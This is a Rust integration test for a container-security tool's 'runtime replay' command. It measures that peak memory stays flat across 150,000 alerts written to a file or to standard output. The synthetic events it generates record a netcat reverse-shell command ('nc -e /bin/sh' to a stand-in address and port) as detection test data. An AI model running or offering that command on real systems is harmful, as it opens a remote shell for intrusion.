//! `moat runtime replay` keeps its memory flat however many alerts fire: to standard output and to
//! `-o FILE` (streamed into a temporary sibling renamed over FILE at the end, so the report still
//! appears whole or not at all). 150,000 events that each fire a rule are replayed; the peak RSS of
//! the replay process (wait4's rusage) stays under 64 MiB — the former `-o` path kept every alert's
//! text in memory, about 1 KB per alert (~150 MiB here).

use std::io::Write;
use std::process::{Command, Stdio};

fn moat_bin() -> std::path::PathBuf {
    let exe = std::env::current_exe().unwrap();
    let profile = exe.parent().and_then(|d| d.parent()).unwrap().to_path_buf();
    let mut args = vec!["build", "-q", "-p", "moat"];
    if profile.file_name().is_some_and(|n| n == "release") {
        args.push("--release");
    }
    let st = Command::new(env!("CARGO"))
        .args(&args)
        .env("CARGO_TARGET_DIR", profile.parent().unwrap())
        .current_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/../.."))
        .status()
        .unwrap();
    assert!(st.success(), "cargo build -p moat");
    profile.join("moat")
}

/// Runs the command to completion; returns (exit code, peak RSS in KiB) of that process alone.
fn run_measured(cmd: &mut Command) -> (i32, i64) {
    let child = cmd
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id() as libc::pid_t;
    let mut status = 0;
    // SAFETY: an all-zero rusage is a valid value for wait4 to fill.
    let mut ru: libc::rusage = unsafe { std::mem::zeroed() };
    // SAFETY: pid is our child, not yet waited; status and ru are valid out-pointers.
    let r = unsafe { libc::wait4(pid, &mut status, 0, &mut ru) };
    assert_eq!(r, pid, "wait4");
    std::mem::forget(child);
    (libc::WEXITSTATUS(status), ru.ru_maxrss)
}

#[test]
fn replay_memory_stays_flat_per_alert() {
    let moat = moat_bin();
    let dir = tempfile::tempdir().unwrap();
    let events = dir.path().join("ev.jsonl");
    let mut f = std::io::BufWriter::new(std::fs::File::create(&events).unwrap());
    const N: usize = 150_000;
    for i in 0..N {
        // A network tool started in a container: moat's default rules alert on each.
        writeln!(
            f,
            r#"{{"num":{},"ts":{},"type":"execve","res":0,"proc":{{"pid":{},"name":"nc","exe":"/usr/bin/nc","exepath":"/usr/bin/nc","args":["-e","/bin/sh","203.0.113.5","4444"]}},"container":{{"id":"abcdef012345","full_id":"abcdef012345abcdef012345","runtime":"podman","image":"localhost/x:1"}}}}"#,
            i + 1,
            1_700_000_000_000_000_000u64 + i as u64,
            100 + i
        )
        .unwrap();
    }
    f.flush().unwrap();
    drop(f);
    let out = dir.path().join("alerts.jsonl");
    let (code, to_file) = run_measured(
        Command::new(&moat)
            .args(["runtime", "replay", "-f", "json", "-o"])
            .arg(&out)
            .arg(&events),
    );
    assert_eq!(code, 0);
    // Counted streaming: a big string here would be counted in the next child's peak (a forked child
    // shares this process's pages until it executes moat).
    use std::io::BufRead;
    let lines = std::io::BufReader::new(std::fs::File::open(&out).unwrap())
        .lines()
        .count();
    assert_eq!(lines, N, "one alert per event in the report");
    let leftovers: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".tmp"))
        .collect();
    assert!(leftovers.is_empty(), "temporary files left: {leftovers:?}");
    let (code, to_stdout) = run_measured(
        Command::new(&moat)
            .args(["runtime", "replay", "-f", "json"])
            .arg(&events),
    );
    assert_eq!(code, 0);
    eprintln!(
        "replay of {N} alerting events: peak RSS {} KiB with -o FILE, {} KiB to standard output",
        to_file, to_stdout
    );
    for (what, kib) in [("-o FILE", to_file), ("standard output", to_stdout)] {
        assert!(
            kib < 64 * 1024,
            "replay to {what} peaked at {kib} KiB for {N} alerts"
        );
    }
}
